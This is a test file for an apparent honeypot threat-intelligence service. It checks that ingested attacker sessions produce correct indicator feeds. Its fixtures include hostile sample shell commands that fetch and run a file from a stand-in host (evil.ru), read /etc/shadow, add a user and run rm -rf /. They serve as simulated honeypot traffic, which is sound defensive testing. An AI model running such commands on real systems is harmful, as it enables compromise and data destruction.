import { levelsFrom, type ThreatLevel } from '@eviltwin/contract'
import fc from 'fast-check'
import { afterEach, beforeEach, describe, expect, inject, test } from 'vitest'
import type { Database } from '../../platform/postgres/database.js'
import { ensurePartitions } from '../../platform/postgres/partitions.js'
import { createTestDatabase, type TestDatabase } from '../../testing/test-database.js'
import { counting } from '../../testing/work.js'
import { createIngest, type Ingest } from '../ingest/ingest.js'
import { createIngestStore } from '../ingest/store.js'
import { createRuleScorer } from '../scoring/rules.js'
import { levelOf } from '../scoring/scorer.js'
import { createScoringStore } from '../scoring/store.js'
import type { Candidate, FeedLimits, Selection } from './selection.js'
import { createIndicatorStore } from './store.js'

const NOW = Date.parse('2026-03-22T12:34:00Z')
const HOUR_MS = 3_600_000
const SOURCES = ['45.9.148.3', '45.9.148.20', '9.9.1.1', '2001:5::9', '45.9.149.7'] as const
const SENSORS = ['east', 'west', 'free-1', 'free-2', 'hook'] as const
const LIMITS: FeedLimits = { sources: 50_000, downloads: 20_000 }

const KINDS = {
  login: { event_type: 'login_attempt', username: 'root', password: 'x' },
  attack: { event_type: 'command', command: 'wget http://evil.ru/x; chmod 777 x; ./x' },
  worse: { event_type: 'command', command: 'cat /etc/shadow; crontab -l; useradd q; rm -rf /' },
  download: { event_type: 'file_download', url: 'http://evil.ru/x' },
  upload: { event_type: 'file_upload', file_sha256: 'AB'.repeat(32) },
  failure: { event_type: 'file_download', url: 'http://evil.ru/failed', outcome: 'failure' },
  canary: { event_type: 'canary' },
  token: { event_type: 'canary', sensor_kind: 'canarytoken' },
} as const

const traffic = fc.array(
  fc.record({
    source: fc.constantFrom(...SOURCES),
    sensor: fc.constantFrom(...SENSORS),
    session: fc.nat(2),
    kind: fc.constantFrom(...(Object.keys(KINDS) as Array<keyof typeof KINDS>)),
    minutesAgo: fc.nat(72 * 60),
  }),
  { minLength: 10, maxLength: 60 },
)
type Step =
  (typeof traffic extends fc.Arbitrary<infer Steps> ? Steps : never) extends Array<infer One> ? One : never

/** What happens between: sessions are scored anew, higher or lower, or removed. Numbers choose, from 0 to 1. */
const changes = fc.array(
  fc.record({
    what: fc.constantFrom('rescore', 'remove'),
    which: fc.double({ min: 0, max: 0.999, noNaN: true }),
    score: fc.integer({ min: 0, max: 100 }).map((hundredths) => hundredths / 100),
  }),
  { maxLength: 6 },
)

interface StoredSession {
  id: string
  source_ip: string
  version: number
  sensor_id: string
  sensor_kind: string
  signals: string[]
  threat_score: number
  threat_level: ThreatLevel
  last_seen_at: string
}
interface Found extends Omit<Candidate, 'sensor_ids'> {
  sensor_id: string
  corroborates: boolean
}

describe.each(inject('postgresServers'))('sources of severe sessions on $version', (server) => {
  let store: TestDatabase
  beforeEach(async () => {
    store = await createTestDatabase(server, NOW)
    const key = (sensor: string) =>
      run(
        `INSERT INTO api_keys (id, name, key_hash, prefix, scopes, sensor_id, created_at, kind)
          VALUES (gen_random_uuid(), $1, sha256($1::text::bytea), 'x', '{ingest}', $1, now(), 'sensor')`,
        sensor,
      )
    await key('east')
    await key('west')
    // A system whose hook is a canary token: what it reports was seen by it.
    await run(
      `INSERT INTO canary_tokens (id, kind, name, enabled, sensor_id, token_hash, sealed_token, created_by, created_at)
        VALUES (gen_random_uuid(), 'link', 'hook', true, 'hook', '\\x00', '\\x00', 'x', now())`,
    )
  })
  afterEach(() => store.drop())

  const run = <Row extends object = Record<string, never>>(text: string, ...values: unknown[]) =>
    store.database.maintenance.query<Row & Record<string, unknown>>({ text, values })

  function ingest(): Ingest {
    return createIngest({
      store: createIngestStore(store.database.ingest),
      quota: { enforce: async () => {} },
      ensurePartitions: () => ensurePartitions(store.database.maintenance, NOW),
      scorer: createRuleScorer(),
      countryOf: () => null,
      observer: { sessionScored: () => {}, escalated: () => {}, commitRetried: () => {} },
      now: () => NOW,
      maxQueuedRows: 10_000,
      bindKey: async (_key_id, sensor_id) => ({ kind: 'bound', sensor_id }),
      identitiesInUse: () => 'current',
    })
  }

  const recordOf = ({ source, sensor, session, kind, minutesAgo }: Step) => {
    const occurred_at = new Date(NOW - minutesAgo * 60_000).toISOString()
    const json = { source_ip: source, sensor_id: sensor, session: `s${session}`, occurred_at, ...KINDS[kind] }
    return { json, raw: JSON.stringify(json) }
  }

  const storedSessions = () =>
    run<StoredSession>('SELECT *, host(source_ip) AS source_ip FROM sessions ORDER BY id')

  async function change({ what, which, score }: { what: string; which: number; score: number }) {
    const sessions = await storedSessions()
    const session = sessions[Math.floor(which * sessions.length)]
    if (!session) return
    if (what === 'remove') await run('DELETE FROM sessions WHERE last_seen_at <= $1', session.last_seen_at)
    else
      await createScoringStore(store.database.app).rescore([
        {
          ...(session as never as Parameters<ReturnType<typeof createScoringStore>['rescore']>[0][number]),
          old_level: session.threat_level,
          threat_score: score,
          threat_level: levelOf(score),
          score_reasons: [],
        },
      ])
  }

  /** What sessions and their events show, one by one. */
  async function found({ since, minimumLevel, minimumScore }: Selection): Promise<Found[]> {
    const sessions = (await storedSessions()).filter(
      ({ last_seen_at, threat_level, threat_score }) =>
        Date.parse(last_seen_at) >= since.getTime() &&
        levelsFrom(minimumLevel).includes(threat_level) &&
        Math.fround(threat_score) >= Math.fround(minimumScore),
    )
    const profiles = await run<{ source_ip: string; first_seen_at: string }>(
      'SELECT host(source_ip) AS source_ip, first_seen_at FROM attackers',
    )
    const events = await run<Record<'session_id' | 'event_type' | 'occurred_at', string> & Files>(
      'SELECT * FROM events',
    )
    return sessions.flatMap((session) => {
      const { source_ip, sensor_id, sensor_kind, signals, threat_score, threat_level, last_seen_at } = session
      const touched = signals.includes('canary_triggered') && sensor_id !== 'hook'
      const shown = {
        sensor_id,
        threat_score,
        threat_level,
        corroborates: sensor_kind !== 'canarytoken' && !touched,
      }
      const source: Found = {
        ...shown,
        type: source_ip.includes(':') ? 'ipv6-addr' : 'ipv4-addr',
        value: source_ip,
        first_seen_at: profiles.find((profile) => profile.source_ip === source_ip)?.first_seen_at ?? '',
        last_seen_at,
      }
      const downloads = events
        .filter((event) => event.session_id === session.id && event.outcome !== 'failure')
        .flatMap(({ event_type, url, file_sha256, occurred_at: at }): Found[] => [
          ...(event_type === 'file_download' && url !== null
            ? [{ ...shown, type: 'url' as const, value: url, first_seen_at: at, last_seen_at: at }]
            : []),
          ...(file_sha256 !== null
            ? [
                {
                  ...shown,
                  type: 'sha256' as const,
                  value: file_sha256.toLowerCase(),
                  first_seen_at: at,
                  last_seen_at: at,
                },
              ]
            : []),
        ])
      return [source, ...downloads]
    })
  }
  interface Files {
    outcome: string | null
    url: string | null
    file_sha256: string | null
  }

  /** A plain recomputation, written without regard to how feeds are read. */
  async function recomputed(selection: Selection, limits = LIMITS): Promise<Candidate[]> {
    const all = await found(selection)
    const isSource = ({ type }: Found) => type !== 'url' && type !== 'sha256'
    return [
      ...listed(all.filter(isSource), limits.sources),
      ...listed(
        all.filter((each) => !isSource(each)),
        limits.downloads,
      ),
    ]
  }

  function listed(all: readonly Found[], limit: number): Candidate[] {
    const keyOf = ({ type, value }: Found) => `${type} ${value}`
    const groups = new Map<string, Found[]>()
    for (const each of all) {
      const key = ['east', 'west'].includes(each.sensor_id) ? each.sensor_id : 'unbound'
      const group = `${key} ${each.corroborates}`
      groups.set(group, [...(groups.get(group) ?? []), each])
    }
    const places = new Map<string, number>()
    for (const group of groups.values()) {
      const newest = new Map<string, string>()
      for (const each of group)
        if (each.last_seen_at > (newest.get(keyOf(each)) ?? '')) newest.set(keyOf(each), each.last_seen_at)
      const order = [...newest].sort(([a, at], [b, bt]) => (at === bt ? (a < b ? -1 : 1) : at < bt ? 1 : -1))
      for (const [place, [key]] of order.entries())
        places.set(key, Math.min(place, places.get(key) ?? Number.POSITIVE_INFINITY))
    }
    const kept = [...places].sort(([a, m], [b, n]) => m - n || (a < b ? -1 : 1)).slice(0, limit)
    return kept
      .map(([key]) => key)
      .sort((a, b) => (a < b ? -1 : 1))
      .map((key) => {
        const mine = all.filter((each) => keyOf(each) === key)
        const corroborating = mine.filter(({ corroborates }) => corroborates)
        const counted = corroborating.length > 0 ? corroborating : mine
        const [highest] = counted.toSorted((a, b) => b.threat_score - a.threat_score)
        return {
          type: mine[0]?.type ?? 'url',
          value: mine[0]?.value ?? '',
          first_seen_at: mine.map(({ first_seen_at }) => first_seen_at).sort()[0] ?? '',
          last_seen_at:
            mine
              .map(({ last_seen_at }) => last_seen_at)
              .sort()
              .at(-1) ?? '',
          threat_score: highest?.threat_score ?? 0,
          threat_level: highest?.threat_level ?? 'low',
          sensor_ids: [...new Set(corroborating.map(({ sensor_id }) => sensor_id))].sort(),
        }
      })
  }

  async function read(pages: AsyncGenerator<Candidate[], void>): Promise<Candidate[]> {
    const all: Candidate[] = []
    for await (const page of pages)
      all.push(...page.map((row) => ({ ...row, sensor_ids: row.sensor_ids.toSorted() })))
    return all
  }

  const selectionOf = (hours: number, minimumLevel: ThreatLevel, minimumScore: number): Selection => ({
    since: new Date(NOW - hours * HOUR_MS),
    minimumLevel,
    minimumScore,
  })

  test('give the same feeds as all sessions and events, whatever comes, in whatever order, and whatever changes afterwards', async () => {
    await fc.assert(
      fc.asyncProperty(traffic, changes, traffic, async (steps, changed, later) => {
        await run(
          'TRUNCATE event_keys, events, sessions, attackers, sensors, event_rollups, session_rollups, attacker_hours, attacker_days, feed_sources',
        )
        const servers = [ingest(), ingest()]
        const send = async (part: Step[]) => {
          const requests: Promise<unknown>[] = []
          // Each part twice, and by two servers at once.
          for (let at = 0; at < part.length; at += 7)
            for (const each of servers)
              requests.push(each.submit({ request_id: 'r', records: part.slice(at, at + 7).map(recordOf) }))
          await Promise.all(requests)
        }
        await send(steps)
        for (const each of changed) await change(each)
        await send(later)
        for (const selection of [
          selectionOf(24, 'high', 0.6),
          selectionOf(72.5, 'high', 0.7),
          selectionOf(48, 'low', 0.6),
          selectionOf(36, 'critical', 0.95),
          selectionOf(80, 'low', 0),
        ]) {
          const feeds = createIndicatorStore(store.database.feeds)
          const expected = await recomputed(selection)
          expect(await read(feeds.all(selection))).toEqual(expected)
          const sources = expected.filter(({ type }) => type !== 'url' && type !== 'sha256')
          const byText = (a: Candidate, b: Candidate) => (a.value < b.value ? -1 : 1)
          expect(await read(feeds.sources(selection))).toEqual(sources.toSorted(byText))
          const limits = { sources: 2, downloads: 20_000 }
          const few = createIndicatorStore(store.database.feeds, limits)
          expect(await read(few.all(selection))).toEqual(await recomputed(selection, limits))
        }
        const differing = await run(`
          SELECT FROM feed_sources f FULL JOIN feed_sources_of_sessions s USING (value, session_id)
          WHERE (f.sensor_id, f.canary, f.threat_score, f.threat_level, f.last_seen_at)
            IS DISTINCT FROM (s.sensor_id, s.canary, s.threat_score, s.threat_level, s.last_seen_at)`)
        expect(differing).toEqual([])
      }),
      { numRuns: 8 },
    )
  }, 240_000)

  /** Severe sessions, each source's over a day; the first source has as many as all others together. */
  const SEVERE = `
    INSERT INTO sessions (id, source_ip, sensor_id, sensor_kind, protocols, clients, started_at, last_seen_at, event_count, login_attempt_count,
      login_success_count, command_count, file_count, proxy_request_count, signals, threat_score, threat_level, score_reasons, scorer,
      last_received_at, version, credential_sketch, techniques, unread_characters, behaviours_version)
    SELECT gen_random_uuid(), '45.9.0.0'::inet + CASE WHEN n % 2 = 0 THEN 0 ELSE n % 2000 END, 's' || n % 2, 'cowrie', '{}', '{}',
      $1::timestamptz - interval '5 seconds' * n, $1::timestamptz - interval '4 seconds' * n, 1, 0, 0, 0, 0, 0, '{}', 0.6 + n % 7 / 100.0, 'high',
      '[]', 'rules', $1, 1, '{}', '{}', 0, 1
    FROM generate_series(1, 20000) AS n`

  test('are read page by page, however many sessions they have, and their version without reading them', async () => {
    await run(SEVERE, new Date(NOW))
    await run('VACUUM (ANALYZE)')
    const { database, work } = counting(store.database.feeds)
    const feeds = createIndicatorStore({ ...store.database.feeds, ...database } as Database['feeds'])
    const selection = selectionOf(24, 'high', 0.6)
    await feeds.version(selection, new Date(NOW))
    expect(work.rows).toBeLessThan(500)
    const before = work.rows
    const pages = feeds.all(selection)
    expect((await pages.next()).value).toHaveLength(250)
    await pages.return()
    // Beside the page itself, as many rows are counted as a feed may have.
    const [table] = await run<{ rows: number }>('SELECT count(*)::int AS rows FROM feed_sources')
    expect(table?.rows).toBeLessThan(5_000)
    expect(work.rows - before).toBeLessThan((table?.rows ?? 0) + 1_500)
  })

  test('change the version whenever a severe session changes, comes or goes, or leaves the time range, and at no other time within an hour', async () => {
    await run(SEVERE, new Date(NOW))
    const feeds = createIndicatorStore(store.database.feeds)
    const versionAt = async (now: number) =>
      (
        await feeds.version(
          { since: new Date(now - HOUR_MS), minimumLevel: 'high', minimumScore: 0.6 },
          new Date(now),
        )
      ).sessions
    const versions = [await versionAt(NOW)]
    const submit = (kind: keyof typeof KINDS, session: number) =>
      ingest().submit({
        request_id: 'r',
        records: [{ source: SOURCES[0], sensor: SENSORS[0], session, kind, minutesAgo: 1 }].map(recordOf),
      })
    await submit('login', 1)
    expect(await versionAt(NOW)).toBe(versions[0])
    await submit('attack', 2)
    versions.push(await versionAt(NOW))
    await submit('login', 2)
    versions.push(await versionAt(NOW))
    await submit('login', 2)
    expect(await versionAt(NOW)).toBe(versions.at(-1))
    await run('DELETE FROM sessions WHERE last_seen_at < $1', new Date(NOW - 20 * HOUR_MS))
    versions.push(await versionAt(NOW))
    expect(new Set(versions).size).toBe(versions.length)
    // One leaves the range every four seconds.
    expect(await versionAt(NOW + 1)).not.toBe(await versionAt(NOW + 4_001))
    await run('DELETE FROM sessions')
    expect(await versionAt(NOW + 1)).toBe(await versionAt(NOW + 60_000))
  })
})
